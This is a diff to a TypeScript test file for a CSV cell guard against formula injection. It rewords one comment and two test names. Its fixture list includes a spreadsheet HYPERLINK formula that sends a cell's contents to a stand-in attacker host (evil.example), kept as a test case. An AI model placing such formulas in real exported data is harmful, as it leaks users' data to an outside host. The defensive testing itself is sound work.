@@ -2,7 +2,7 @@ import { parse } from 'csv-parse/sync'
 import { expect, test } from 'vitest'
 import { guardCell, toCsvRow, unguardCell } from './csv-cells.ts'
 
-/** Cells that a spreadsheet would compute, or hand to another program (OWASP, "CSV Injection"). */
+/** Cells that a spreadsheet would compute, or pass to another program (OWASP, "CSV Injection"). */
 const formulas = [
   '=1+1',
   '=HYPERLINK("https://evil.example/?"&A1;"Voir")',
@@ -38,12 +38,12 @@ test.each(formulas)('no cell of a table begins a formula: %j', (text) => {
 })
 
 test.each([...formulas, '', "'", "''", "L'Été", "'Round Midnight", 'a=b', ' a', '7', "' =x"])(
-  'what was guarded is read back as it was: %j',
+  'reads a guarded cell back unchanged: %j',
   (text) => expect(unguardCell(guardCell(text))).toBe(text),
 )
 
-test('a text of any length is looked at once', () => {
-  // Two parts of an expression that could share these signs would take quadratic time: minutes here.
+test('takes linear time for a text of any length', () => {
+  // If two parts of the pattern could match these characters, it would take quadratic time: minutes here.
   const long = ' \t'.repeat(500_000)
   expect(guardCell(`${long}x`)).toBe(`${long}x`)
   expect(guardCell(`x${long}`)).toBe(`x${long}`)
